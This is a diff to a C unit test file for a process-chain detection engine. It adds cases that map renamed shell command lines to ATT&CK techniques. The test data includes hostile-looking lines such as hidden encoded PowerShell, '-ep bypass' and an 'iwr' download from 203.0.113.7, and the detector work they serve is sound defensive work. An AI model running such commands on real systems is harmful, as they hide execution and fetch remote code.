@@ -9,6 +9,7 @@
 #include <stdio.h>
 #include <cmocka.h>
 
+#include "detect/chain/program_arguments.h"
 #include "detect/chain/program_kind.h"
 #include "tests/unit/detect/chain_scenario.h"
 
@@ -156,6 +157,49 @@ static void applications_and_consoles(void **state)
     }
 }
 
+static void arguments_of_shells(void **state)
+{
+    static const struct {
+        const char *command, *technique; /* NULL: of none */
+    } CASES[] = {
+        {"svchost32.exe /c whoami", "T1059.003"},
+        {"\"C:\\my x\\a.exe\" /q /c \"cd /d C:\\x&net user\"", "T1059.003"},
+        {"a.exe /cwhoami", "T1059.003"},
+        {"a.exe /K dir", "T1059.003"},
+        {"a.exe /c config.xml", NULL},
+        {"a.exe /c", NULL},
+        {"a.exe job /c whoami", NULL}, /* cmd takes no argument before */
+        {"a.exe", NULL},
+        {"", NULL},
+        {"mon.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwA=", "T1059.001"},
+        {"mon.exe -e SQBFAFgA", "T1059.001"},
+        {"mon.exe /ec SQBFAFgA", "T1059.001"},
+        {"mon.exe -e production", NULL}, /* Base64, but of no UTF-16 */
+        {"mon.exe -e AAAAAAAA", NULL},
+        {"mon.exe -e SQBFAFg", NULL},
+        {"mon.exe -NonI -ep bypass -f x.ps1", "T1059.001"},
+        {"mon.exe -nop x", NULL}, /* one of them alone may be anybody's */
+        {"mon.exe -c iwr 203.0.113.7/a", "T1059.001"},
+        {"mon.exe -command \"Get-Process\"", "T1059.001"},
+        {"mon.exe -c \"$x=1\"", "T1059.001"},
+        {"mon.exe -c whoami", "T1059.001"},
+        {"mon.exe -c settings.json", NULL},
+        {"mon.exe -w 1 -h 2", NULL},
+        {"x.exe //e:vbscript a.txt", "T1059.005"},
+        {"x.exe vbscript:Execute(1)", "T1059.005"},
+        {"convert.exe -resize 100x100 a.jpg b.jpg", NULL},
+        {"wkhtmltopdf.exe --quiet http://localhost/x - ", NULL},
+    };
+    (void)state;
+    for (size_t i = 0; i < sizeof CASES / sizeof CASES[0]; i++) {
+        const struct iw_program *found = iw_program_of_arguments(iw_str_of(CASES[i].command));
+        const char *technique = found != NULL ? found->technique : NULL;
+        if ((technique == NULL) != (CASES[i].technique == NULL) ||
+            (technique != NULL && strcmp(technique, CASES[i].technique) != 0))
+            fail_msg("%s: %s", CASES[i].command, technique);
+    }
+}
+
 /* --- in a chain --------------------------------------------------------------------------------
  */
 
@@ -185,6 +229,14 @@ static void chains_of_them(void **state)
          .script = WORKER "3000 start 20 10 C:\\dotnet\\dotnet.exe dotnet Shop.dll\n"
                           "4000 start 21 20 cmd.exe cmd /c ver\n",
          .found = ALONE},
+        {.name = "a shell under another name, by the audit alone",
+         .script = "1000L worker 10 ShopPool\n"
+                   "3000L start 20 10 D:\\app\\mon.exe mon -c iwr 203.0.113.7/a\n",
+         .found = ALONE},
+        {.name = "of an application that it hosts it is the application's",
+         .script = WORKER "3000 start 20 10 D:\\app\\convert.exe convert\n"
+                          "4000 start 21 20 D:\\app\\mon.exe mon -c iwr 203.0.113.7/a\n",
+         .found = ""},
         {.name = "a console and its host",
          .script = WORKER "3000 start 20 10 conhost.exe conhost.exe 0x4\n",
          .found = ""},
@@ -199,6 +251,7 @@ int main(void)
         cmocka_unit_test(programs_of_rules_are_candidates_of_chains),
         cmocka_unit_test(names_and_places),
         cmocka_unit_test(applications_and_consoles),
+        cmocka_unit_test(arguments_of_shells),
         cmocka_unit_test(chains_of_them),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
